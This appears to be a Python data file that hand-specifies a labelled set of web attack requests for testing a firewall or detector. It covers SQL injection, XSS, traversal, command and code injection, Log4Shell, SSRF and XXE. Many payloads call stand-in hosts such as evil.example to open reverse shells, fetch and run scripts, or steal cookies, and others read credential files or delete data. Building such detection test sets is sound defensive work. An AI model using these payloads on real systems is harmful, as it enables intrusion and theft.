"""Hand-written specification of the labelled web request set (rendered by render.py).

ATTACKS and BENIGN are lists of (class, source documentation, lines); each line is one request
in render.py's notation (q:, qr:, qn:, p:, pe:, ua:, ref:, m:, post:). Written from attack-class
documentation (OWASP attack pages and cheat sheets, PortSwigger Web Security Academy, vendor
advisories and CVE write-ups, language manuals, RFC 9110/9112), not copied from any WAF's
regression tests. Lines starting with // are comments.
"""

ATTACKS = [
("sqli", "OWASP SQL Injection + SQLi Prevention Cheat Sheet; PortSwigger SQL injection cheat sheet (MySQL, PostgreSQL, MSSQL, Oracle, SQLite)", r"""
q:id=1' OR '1'='1
q:id=1 OR 1=1-- -
q:id=1' UNION SELECT NULL,username,password FROM users--
q:id=-1 UNION ALL SELECT 1,2,3,4#
q:q=x' AND SLEEP(5)-- -
q:id=1;WAITFOR DELAY '0:0:5'--
q:id=1' AND pg_sleep(5)--
q:id=1);SELECT pg_sleep(10)--
q:id=1' AND 1=CONVERT(int,@@version)--
q:id=1' AND extractvalue(1,concat(0x7e,version()))-- -
q:id=1 AND updatexml(1,concat(0x7e,(SELECT user())),1)
q:id=1;INSERT/**/INTO/**/admins(user,pass)/**/VALUES('x','y')--
q:id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users
q:id=1 UnIoN SeLeCt 1,2,3
q:id=1 /*!50000UNION*/ /*!50000SELECT*/ 1,2
q:name=admin'--
q:name=admin' #
q:user=admin'/*
q:id=1' or 'a'='a
q:id=1" or "1"="1
q:id=1 or true--
q:id=' or ''='
q:id=1' HAVING 1=1--
q:id=1' GROUP BY username HAVING 1=1--
q:id=1 ORDER BY 10--
q:sort=(CASE WHEN (1=1) THEN name ELSE price END)
q:id=1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)
q:id=1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a
q:id=1 AND ASCII(SUBSTR((SELECT database()),1,1))>64
q:id=1'; DROP TABLE users;--
q:id=1; EXEC xp_cmdshell('dir')--
q:id=1; EXEC master..xp_cmdshell 'ping 10.0.0.1'--
q:id=1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--
q:id=1' || (SELECT banner FROM v$version WHERE ROWNUM=1)--
q:id=1 AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))
q:id=1' AND randomblob(1000000000)--
q:id=1 UNION SELECT sql FROM sqlite_master
q:id=1' UNION SELECT load_file('/etc/passwd')--
q:id=1 UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'
q:id=1' AND BENCHMARK(5000000,MD5(1))--
q:id=1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
q:id=1' AND 1=CAST((SELECT version()) AS int)--
q:id=1;COPY (SELECT '') TO PROGRAM 'id'--
q:q=') or ('1'='1
qr:id=1%27%20or%20%271%27%3D%271
qr:id=1%2527%2520union%2520select%25201,2--
qr:id=1%bf%27%20or%201=1--%20
qn:id' or 1=1--
q:id=1 AND 1=1
q:id=1' and '1'='1
q:uid=1 procedure analyse()
q:id=1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
q:id=1'+(select*from(select(sleep(20)))a)+'
q:id=if(now()=sysdate(),sleep(6),0)
q:email=test@x.com' AND 0x41=0x41--
qr:id=1%20uNiOn%0aSeLeCt%0a1,2,3
q:id=0x61646d696e' or 1 LIKE 1--
q:id=1 and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'),1,1)))>116
q:id=1;shutdown--
q:user=admin' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055
q:id=1' and json_keys((select convert((select concat(0x7e,version())) using utf8)))--
q:id=1 and exp(~(select * from (select user())x))
p:/products/1'%20or%20'1'='1
ua:' or 1=1--
ref:http://portal.example/?id=1' union select 1,2,3--
ua:Mozilla/5.0' AND SLEEP(5) AND '1'='1
q:id=1' WAITFOR TIME '23:59'--
q:id=1 AND 1 IN (SELECT @@version)
q:order=id desc,(select 1 from pg_sleep(5))
q:id=1' union select null,table_name from all_tables--
q:id=1;declare @q varchar(99);set @q='\\attacker.example\x';exec master.dbo.xp_dirtree @q--
q:id=1 union select 1,group_concat(column_name) from information_schema.columns where table_name=0x7573657273
q:name=' || '1'='1
q:id=1';select case when 1=1 then pg_sleep(5) else pg_sleep(0) end--
q:id=1 AnD/**/1=1
q:id=1'/**/oR/**/'x'='x
q:id=1 and (select 1)=1
q:id=-1' union(select(1),(2),(3))#
q:id=1 %26%26 1=1
q:id=1'||'1
q:id=1 xor 1
q:id=1' AND '1'='1'/*
q:search=%' and 1=0 union select 1,@@version,3 and '%'='
"""),
("xss", "OWASP XSS Filter Evasion + XSS Prevention Cheat Sheets; PortSwigger XSS cheat sheet; AngularJS sandbox escapes", r"""
q:q=<script>alert(1)</script>
q:q="><script>alert(document.cookie)</script>
q:q=<img src=x onerror=alert(1)>
q:q=<svg onload=alert(1)>
q:q=<svg/onload=alert`1`>
q:q=<body onload=alert(1)>
q:q=<iframe src="javascript:alert(1)">
q:q=<a href="javascript:alert(1)">x</a>
q:url=javascript:alert(document.domain)
q:url=JaVaScRiPt:alert(1)
q:url=java&#x09;script:alert(1)
q:q=<details open ontoggle=alert(1)>
q:q=<input autofocus onfocus=alert(1)>
q:q=<marquee onstart=alert(1)>
q:q=<video><source onerror="alert(1)">
q:q=<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
q:q='-alert(1)-'
q:q=";alert(1);//
q:q=</script><script>alert(1)</script>
q:q=<scr<script>ipt>alert(1)</script>
q:q=<ScRiPt>prompt(1)</sCrIpT>
q:q=<img src=x onerror=\u0061lert(1)>
q:q=<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
q:q=<svg><animate onbegin=alert(1) attributeName=x dur=1s>
q:q={{constructor.constructor('alert(1)')()}}
q:q={{$on.constructor('alert(1)')()}}
q:q=<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
q:q=<embed src=javascript:alert(1)>
q:q=<form action=javascript:alert(1)><input type=submit>
q:q=<style>@import 'http://evil.example/x.css';</style>
q:q=<div style="background:url(javascript:alert(1))">
q:q=<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">
q:q=<script src=//evil.example/x.js></script>
q:q=<base href="http://evil.example/">
q:q=<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
q:q=<svg><script>alert&#40;1&#41;</script>
qr:q=%3Cscript%3Ealert(1)%3C%2Fscript%3E
qr:q=%253Cscript%253Ealert(1)%253C%252Fscript%253E
qr:q=%u003Cscript%u003Ealert(1)%u003C/script%u003E
qr:q=%3cimg%20src%3dx%20onerror%3dalert(1)%3e
q:q=<iframe srcdoc="<script>alert(1)</script>">
q:q=<img src=x oNeRrOr=confirm(1)>
q:q=<a onmouseover="alert(1)">hover</a>
q:q=<x onpointerenter=alert(1)>
q:q="onmouseover="alert(1)
q:q=' autofocus onfocus='alert(1)
q:q=<script>fetch('//evil.example/?c='+document.cookie)</script>
q:q=<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
q:q=<isindex type=image src=1 onerror=alert(1)>
q:q=<link rel=import href=data:text/html,<script>alert(1)</script>>
q:callback=alert(1)//
q:q=<img src=x:alert(alt) onerror=eval(src) alt=0>
q:q=vbscript:msgbox(1)
q:q=<script>document.write('<img src=//evil.example/'+document.cookie+'>')</script>
ua:<script>alert(1)</script>
ref:http://evil.example/"><script>alert(1)</script>
pe:/search/<script>alert(1)</script>
pe:/profile/"><img src=x onerror=alert(1)>
q:name=<svg onload=window.location='//evil.example'>
q:q=<textarea onfocus=alert(1) autofocus>
q:q=data:text/html,<script>alert(1)</script>
q:q=<img src=1 onerror=top['al'+'ert'](1)>
q:q=<svg onload=setTimeout('alert\x281\x29')>
q:q=\u003cscript\u003ealert(1)\u003c/script\u003e
q:q=&lt;script&gt;alert(1)&lt;/script&gt;
q:q=<img src=x onerror=window['ale'+'rt'](document['coo'+'kie'])>
q:q=<body onpageshow=alert(1)>
q:q=<svg><set attributeName=href onbegin=alert(1)>
q:q=<img/src/onerror=alert(1)>
q:q=<a href=&#x6a;avascript:alert(1)>x</a>
"""),
("path-traversal", "OWASP Path Traversal; PortSwigger File path traversal; CAPEC-126; CVE-2021-41773/42013 advisories", r"""
q:file=../../../../etc/passwd
qr:file=..%2f..%2f..%2f..%2fetc%2fpasswd
qr:file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
qr:file=%252e%252e%252f%252e%252e%252fetc%252fpasswd
qr:file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
qr:file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
qr:file=..%5c..%5c..%5cwindows%5cwin.ini
qr:file=..%255c..%255c..%255cboot.ini
qr:file=%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd
qr:file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
q:file=....//....//....//etc/passwd
q:file=..././..././..././etc/passwd
qr:file=../../../etc/passwd%00.png
q:template=../../../../../../windows/win.ini
q:f=\..\..\..\windows\win.ini
q:file=..\..\..\..\windows\system32\drivers\etc\hosts
qr:path=%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini
q:file=.%2e/.%2e/.%2e/etc/passwd
qr:page=..%2f..%2f..%2fetc%2fpasswd%2500
p:/static/..;/WEB-INF/web.xml
p:/..%2f..%2f..%2f..%2fetc/passwd
p:/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
p:/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd
p:/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd
p:/download?file=....\/....\/....\/etc/passwd
p:/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
p:/vpn/../vpns/cfg/smb.conf
p:/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
p:/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
p:/../../../../../../../../etc/passwd
p:/a/b/%2e%2e/%2e%2e/%2e%2e/etc/passwd
p:/sites/all/../../../../etc/passwd
p:/public/plugins/alertlist/../../../../../../../../etc/passwd
p:/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
p:/api/v1/totp/user-backup-code/../../system/system-information
p:/console/css/%252e%252e%252fconsole.portal
q:view=..%2F..%2Fwp-config.php
qr:view=..%2F..%2F..%2Fwp-config.php
q:file=..\..\..\..\..\inetpub\wwwroot\web.config
qr:img=..%252f..%252f..%252f..%252fetc%252fshadow
qr:doc=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fWindows%2fwin.ini
qr:file=..%c1%9c..%c1%9c..%c1%9cboot.ini
qr:file=%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron
qn:../../../../etc/passwd
ua:../../../../etc/passwd
ref:http://portal.example/download?file=../../../../etc/passwd
pe:/download/../../../../etc/hosts
q:dir=../../../../../../../../../../
q:lang=../../../../../../usr/local/etc/php.ini
"""),
("lfi-restricted-file", "OWASP Testing Guide WSTG-ATHZ-01 and WSTG-INPV-11 (file inclusion); PayloadsAllTheThings-style target lists from Linux/Windows documentation", r"""
q:file=/etc/passwd
q:file=/etc/shadow
q:file=/proc/self/environ
q:file=/proc/self/cmdline
q:file=/proc/version
q:file=/etc/hosts
q:file=/etc/issue
q:file=/var/log/apache2/access.log
q:file=C:\Windows\win.ini
q:file=C:\boot.ini
q:file=c:/inetpub/wwwroot/web.config
q:file=../web.config
q:file=../../.htaccess
q:file=../../.git/config
q:file=../../../.env
q:file=../../../../root/.ssh/id_rsa
q:file=/home/deploy/.ssh/id_rsa
q:file=../../WEB-INF/web.xml
p:/WEB-INF/web.xml
q:doc=/etc/passwd
q:path=%SYSTEMROOT%\win.ini
q:file=../config/database.yml
q:file=../../../../var/www/html/wp-config.php
q:file=C:/Windows/System32/config/SAM
q:file=/etc/nginx/nginx.conf
q:file=../../../../etc/mysql/my.cnf
q:file=/root/.bash_history
q:file=~/.aws/credentials
q:file=/proc/self/fd/3
q:file=/etc/group
q:file=/var/run/secrets/kubernetes.io/serviceaccount/token
q:page=WEB-INF/classes/application.properties
q:file=/etc/ssh/sshd_config
q:file=C:\Windows\System32\inetsrv\config\applicationHost.config
q:file=/proc/self/status
q:tpl=/etc/passwd%00
q:file=../../../../boot.ini
q:report=/usr/local/tomcat/conf/tomcat-users.xml
q:file=META-INF/MANIFEST.MF
q:file=.git/HEAD
"""),
("rfi", "OWASP Testing for Remote File Inclusion (WSTG-INPV-11.2); PHP manual allow_url_include", r"""
q:page=http://evil.example/shell.txt?
q:page=https://203.0.113.9/c99.txt
q:file=ftp://evil.example/s.txt
qr:inc=http://evil.example/shell.txt%00
q:page=\\203.0.113.9\share\shell.php
q:mosConfig_absolute_path=http://evil.example/r57.txt?
q:include=http://10.0.0.5:8080/x.php?
q:template=https://pastebin.example/raw/abc123?
q:lang=http://evil.example/evil?
p:/index.php?page=http://evil.example/sh.txt??
q:file=HTTP://EVIL.EXAMPLE/SHELL.TXT?
qr:GLOBALS[root_path]=http://evil.example/x?
qr:_SERVER[DOCUMENT_ROOT]=http://evil.example/x.txt?
q:module=smb://203.0.113.9/share/x.php
q:path=http://evil.example/x.txt%3f
q:page=https://evil.example/payload.php
q:inc=http://203.0.113.9/b374k.txt
q:config=ftp://anonymous@203.0.113.9/x.php
"""),
("command-injection", "OWASP Command Injection + OS Command Injection Defense Cheat Sheet; PortSwigger OS command injection; bash(1) and cmd.exe documentation", r"""
q:ip=127.0.0.1;id
q:ip=127.0.0.1|whoami
q:ip=127.0.0.1&&cat /etc/passwd
q:ip=127.0.0.1||uname -a
q:ip=`id`
q:ip=$(whoami)
q:host=x;cat${IFS}/etc/passwd
q:host=x;cat$IFS$9/etc/passwd
q:host=x;{cat,/etc/passwd}
q:host=x;/bin/cat /e??/p??swd
q:host=x;/???/c?t /???/p??s??
q:host=x;c''at /etc/pa''sswd
q:host=x;c"a"t /etc/passwd
q:host=x;c\at /et\c/pas\swd
q:host=x;ca$@t /etc/passwd
qr:host=x%0aid
qr:host=x%0Acat%20/etc/passwd
q:host=x;wget http://evil.example/x.sh -O /tmp/x.sh;sh /tmp/x.sh
q:host=x;curl -s http://evil.example/x|bash
q:host=x;nc -e /bin/sh 203.0.113.9 4444
q:host=x;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
q:host=x;python -c 'import socket,os,pty;s=socket.socket()'
q:host=x;perl -e 'use Socket;'
q:host=x;rm -rf /tmp/*;
q:host=x;echo c2ggLWk= | base64 -d | sh
q:host=x|busybox telnetd -l /bin/sh
q:host=x;sleep 10
q:host=x`sleep 5`
q:host=x$(sleep 5)
q:host=x;ping -c 10 127.0.0.1
q:host=x&ping -n 10 127.0.0.1&
q:host=x;cat</etc/passwd
q:host=x;tac /etc/shadow
q:host=x;more /etc/passwd
q:host=x;head -n1 /etc/passwd
q:host=x;ls -la /
q:host=x;uname${IFS}-a
q:host=x;echo${IFS}vulnerable
q:host=x;$(printf '\x69\x64')
q:host=x;a=i;b=d;$a$b
q:host=x;/bin/b??h -c id
q:host=x;/usr/bin/id
q:host=x|id
q:cmd=id
q:cmd=whoami
q:cmd=cat /etc/passwd
q:exec=ls -la
q:host=x;chmod 777 /tmp/x
q:host=x;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f
q:host=x;curl http://evil.example/$(whoami)
q:host=x;nslookup $(whoami).evil.example
q:host=x|cmd /c dir
q:host=x&dir c:\
q:host=x&type C:\Windows\win.ini
q:host=x&ipconfig /all
q:host=x&net user hacker P@ss /add
q:host=x&whoami /priv
q:host=x|powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
q:host=x|powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')
q:host=x&for /f "tokens=*" %a in ('whoami') do echo %a
q:host=x&FOR /F %i IN ('dir /b') DO type %i
q:host=x&certutil -urlcache -split -f http://evil.example/a.exe a.exe
q:host=x&echo %USERNAME%
q:host=x&systeminfo
q:host=x&tasklist
q:host=x&c^m^d /c who^ami
q:host=x&%COMSPEC% /c whoami
q:host=x;w'h'o'am'i
q:host=x;who$()ami
q:host=x;${PATH:0:1}etc${PATH:0:1}passwd
q:host=x;cat /etc/passwd #
pe:/cgi-bin/test.cgi;id
p:/cgi-bin/ping.cgi?ip=1.1.1.1%3Bcat%20%2Fetc%2Fpasswd
q:host=x;id;#
qr:host=x%26%26whoami
q:host=x;getent passwd
q:host=x;/sbin/ifconfig
q:host=x;env
q:host=x|/usr/bin/nc 203.0.113.9 80
q:host=x;u=$(id);echo $u
q:host=x;cat /e"t"c/pa"s"swd
q:host=x;`echo aWQ= | base64 -d`
q:host=x||ver
q:host=x&powershell.exe -nop -w hidden -c "whoami"
q:host=x&cmd.exe /c "type C:\inetpub\wwwroot\web.config"
q:host=x;/usr/bin/wget${IFS}evil.example/x
q:host=x;X=$'\x69\x64';$X
q:file=a.pdf;rm -rf /var/www
q:host=x;tail -f /var/log/auth.log
"""),
("shellshock", "CVE-2014-6271 advisory (GNU bash function export)", r"""
ua:() { :; }; /bin/bash -c "cat /etc/passwd"
ua:() { ignored; }; echo Content-Type: text/plain; echo; id
ref:() { :;}; /usr/bin/wget http://evil.example/x
ua:() { :;}; echo; /bin/sh -c 'uname -a'
ua:() { _; } >_[$($())] { id; }
"""),
("code-injection", "OWASP Code Injection; PHP manual (program execution, wrappers, unserialize); Java Runtime/ProcessBuilder and serialization docs; Node.js child_process docs; Python __import__ and pickle docs", r"""
q:cmd=system('id');
q:code=phpinfo();
q:x=<?php system($_GET['c']); ?>
q:x=<?= `id` ?>
q:x=<?php eval(base64_decode('cGhwaW5mbygpOw=='));?>
q:func=passthru('ls -la')
q:x=shell_exec('whoami')
q:x=exec('id')
q:x=popen('id','r')
q:x=proc_open('id',array(),$p)
q:x=assert('system("id")')
q:x=preg_replace('/.*/e','system("id")','')
q:x=create_function('','system("id");')
q:x=call_user_func('system','id')
q:x=file_put_contents('s.php','<?php eval($_POST[1]);?>')
q:x=${@phpinfo()}
q:x=eval($_REQUEST['c'])
q:x=include($_GET['f'])
q:page=php://filter/convert.base64-encode/resource=index.php
q:page=php://filter/read=string.rot13/resource=config.php
q:page=php://input
q:page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==
q:page=data:text/plain,<?php phpinfo();?>
q:page=expect://id
q:page=zip://uploads/avatar.jpg#shell
q:page=phar://uploads/x.jpg/shell
q:page=glob:///var/www/*
q:page=file:///etc/passwd
q:data=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}
q:data=a:1:{i:0;O:7:"Example":1:{s:3:"cmd";s:2:"id";}}
q:obj=O:21:"Monolog\Handler\Syslog":1:{s:9:"*socket";N;}
q:x=java.lang.Runtime.getRuntime().exec('id')
q:x=new java.lang.ProcessBuilder({'id'}).start()
q:x=Class.forName('java.lang.Runtime')
q:data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==
q:x=T(java.lang.Runtime).getRuntime().exec('id')
q:x=#{T(java.lang.System).getenv()}
q:x=require('child_process').exec('id')
q:x=process.mainModule.require('child_process').execSync('id')
q:x=global.process.mainModule.constructor._load('child_process').exec('id')
q:x=this.constructor.constructor('return process')().exit()
q:x=eval("require('fs').readFileSync('/etc/passwd')")
q:x=_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
q:x=res.end(require('fs').readdirSync('.').toString())
q:x=__import__('os').system('id')
q:x=__import__('os').popen('id').read()
q:x=eval(compile('import os;os.system("id")','a','exec'))
q:x=exec("import subprocess;subprocess.call(['id'])")
q:x=().__class__.__bases__[0].__subclasses__()
q:x=getattr(__builtins__,'__import__')('os').system('id')
q:x=Response.Write(CreateObject("WScript.Shell").Exec("cmd /c whoami").StdOut.ReadAll())
q:x=Kernel.exec('id')
q:x=%x(id)
q:x=";system('id');//
q:x=phpinfo()
q:x=base64_decode('c3lzdGVt')('id')
q:x=$_GET[0]($_GET[1])
q:x=<?php echo file_get_contents('/etc/passwd'); ?>
qr:x=%3C%3Fphp%20passthru($_GET%5B'c'%5D)%3B%3F%3E
q:x=highlight_file('config.php')
q:x=java.lang.System.getProperty("user.dir")
q:x=os.system('id')
q:x=subprocess.Popen(['id'])
"""),
("template-injection", "PortSwigger Server-side template injection; Jinja2, Twig, FreeMarker, Velocity, Smarty, ERB, Thymeleaf docs", r"""
q:name={{7*7}}
q:name={{7*'7'}}
q:name=${7*7}
q:name=<%= 7*7 %>
q:name=#{7*7}
q:name=*{7*7}
q:name={{config.items()}}
q:name={{self.__init__.__globals__.__builtins__}}
q:name={{''.__class__.__mro__[1].__subclasses__()}}
q:name={{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
q:name={{cycler.__init__.__globals__.os.popen('id').read()}}
q:name={{lipsum.__globals__['os'].popen('id').read()}}
q:name={% import os %}{{ os.popen('id').read() }}
q:name=<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
q:name=${"freemarker.template.utility.Execute"?new()("id")}
q:name=#set($x='')$x.class.forName('java.lang.Runtime')
q:name=${T(java.lang.Runtime).getRuntime().exec('id')}
q:name={{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
q:name={{['id']|filter('system')}}
q:name={php}echo `id`;{/php}
q:name={system('id')}
q:name=@{ System.Diagnostics.Process.Start("cmd.exe","/c whoami"); }
q:name=${{7*7}}
q:name={{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
q:name=<%= system("id") %>
q:name=${{<%[%'"}}%\.
q:name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}
q:name={{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
q:name=__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
q:name=[[${7*7}]]
q:name={{dump(app)}}
q:name=${application}
q:name=#{session.getAttribute('user')}
"""),
("log4shell", "CVE-2021-44228/45046 advisories; Log4j 2 lookups manual (jndi, lower, upper, env, sys, date, default values)", r"""
ua:${jndi:ldap://evil.example/a}
ua:${jndi:rmi://203.0.113.9:1099/a}
ua:${jndi:dns://evil.example/a}
q:x=${jndi:ldap://evil.example:1389/Basic/Command/Base64/aWQ=}
q:x=${${lower:j}ndi:${lower:l}dap://evil.example/a}
q:x=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}
q:x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}
q:x=${jn${lower:d}i:l${lower:d}ap://evil.example/a}
q:x=${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/a}
q:x=${j${k8s:k5:-ND}i:ldap://evil.example/a}
q:x=${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}
q:x=${jndi:ldaps://evil.example/a}
q:x=${jndi:iiop://evil.example/a}
q:x=${jndi:corba://evil.example/a}
q:x=${jndi:nis://evil.example/a}
q:x=${jndi:nds://evil.example/a}
q:x=${jndi:http://evil.example/a}
q:x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}
q:x=${jndi:ldap://${env:USER}.evil.example/a}
q:x=${${sys:unknown:-j}ndi:ldap://evil.example/a}
q:x=${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}
q:x=${env:AWS_SECRET_ACCESS_KEY}
q:x=${jndi:ldap://127.0.0.1#evil.example:1389/a}
ref:${jndi:ldap://evil.example/ref}
qn:${jndi:ldap://evil.example/n}
pe:/${jndi:ldap://evil.example/p}
qr:x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
qr:x=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D
q:x=${j${::-n}di:ldap://evil.example/a}
q:x=${j${lower:N}di:ldap://evil.example/a}
q:x=${\u006a\u006e\u0064\u0069:ldap://evil.example/a}
q:x=${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}
q:x=${sys:java.version}
q:x=${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}
ua:Mozilla/5.0 ${jndi:ldap://${hostName}.evil.example/a}
"""),
("ssrf", "OWASP SSRF Prevention Cheat Sheet; PortSwigger SSRF; AWS/GCP/Azure/Alibaba instance metadata docs; RFC 3986 authority syntax", r"""
q:url=http://169.254.169.254/latest/meta-data/iam/security-credentials/
q:url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
q:url=http://169.254.169.254/metadata/instance?api-version=2021-02-01
q:url=http://100.100.100.200/latest/meta-data/
q:url=http://[fd00:ec2::254]/latest/meta-data/
q:url=http://2852039166/latest/meta-data/
q:url=http://0xA9FEA9FE/latest/meta-data/
q:url=http://0251.0376.0251.0376/
q:url=http://0xa9.0xfe.0xa9.0xfe/
q:url=http://169.254.169.254.nip.io/
q:url=http://127.0.0.1:8080/admin
q:url=http://localhost:6379/
q:url=http://127.1/
q:url=http://0/
q:url=http://0.0.0.0:22/
q:url=http://[::1]:80/
q:url=http://[::ffff:127.0.0.1]/
q:url=http://[0:0:0:0:0:ffff:7f00:1]/
q:url=http://2130706433/
q:url=http://0x7f000001/
q:url=http://017700000001/
q:url=http://portal.example@127.0.0.1/
q:url=http://127.0.0.1#@portal.example/
q:url=http://evil.example@169.254.169.254/
q:url=gopher://127.0.0.1:6379/_SET%20x%20y
q:url=dict://127.0.0.1:11211/stats
q:url=file:///etc/passwd
q:url=http://10.0.0.1/admin
q:url=http://192.168.1.1/cgi-bin/
q:url=http://172.16.0.10:8500/v1/agent/self
q:url=http://kubernetes.default.svc/api/v1/namespaces
q:url=http://localhost:2375/containers/json
q:url=ldap://127.0.0.1:389/
q:url=http://[::]:80/
q:url=http://127.0.0.1.nip.io:8080/
q:url=jar:http://127.0.0.1!/
q:url=http://169.254.170.2/v2/credentials
q:webhook=http://instance-data/latest/meta-data/
q:image=http://169.254.169.254/latest/user-data
q:feed=http://localtest.me/
"""),
("xxe", "OWASP XXE Prevention Cheat Sheet; PortSwigger XXE injection; W3C XInclude and XSLT", r"""
q:xml=<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
q:xml=<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]>
q:xml=<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">
q:xml=<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]>
q:data=<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI +AD4AXQA+-
q:xml=<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
q:svg=<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>
q:xml=<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>
q:xml=<!DOCTYPE r [<!ENTITY % a SYSTEM "jar:http://evil.example/x.zip!/a">%a;]>
q:xml=<!DOCTYPE foo PUBLIC "-//x//y" "http://evil.example/x.dtd"><foo/>
q:xml=<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>
q:xml=<!ENTITY % file SYSTEM "file:///c:/windows/win.ini">
q:soap=<soap:Body><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><y>&y;</y></soap:Body>
q:xsl=<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>
ua:<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>
q:xml=<!DOCTYPE d [<!ENTITY % e SYSTEM "http://203.0.113.9/e.dtd"> %e; %p;]>
"""),
("prototype-pollution", "PortSwigger Prototype pollution; Node.js and lodash merge advisories", r"""
qr:__proto__[isAdmin]=true
qr:__proto__.polluted=1
qr:constructor[prototype][admin]=1
qr:a[__proto__][b]=1
qr:constructor.prototype.polluted=yes
q:json={"__proto__":{"isAdmin":true}}
q:json={"constructor":{"prototype":{"polluted":1}}}
qr:__pro__proto__to__[x]=1
qr:%5F%5Fproto%5F%5F%5BtransportUrl%5D=data:,alert(1)
qr:x=1&__proto__[sourceURL]=%0aalert(1)
ref:http://portal.example/?__proto__[x]=1
qr:user[__proto__][role]=admin
qr:__proto__[toString]=1
qr:constructor%5Bprototype%5D%5Bjson%20spaces%5D=10
q:data={"a":{"__proto__":{"shell":"/proc/self/exe"}}}
qr:__proto__%5Bexec%5D=1
"""),
("ldap-xpath-nosql-injection", "OWASP LDAP Injection Prevention Cheat Sheet; OWASP XPath Injection; MongoDB query operators; PortSwigger NoSQL injection", r"""
q:user=*)(uid=*))(|(uid=*
q:user=admin)(&)
q:user=*)(|(password=*)
q:user=admin*)((|userpassword=*)
q:user=*)(objectClass=*
qr:cn=*))%00
q:user=admin)(!(&(1=0
q:user=' or name()='username' or 'x'='y
q:q=' or count(/*)=1 or 'a'='b
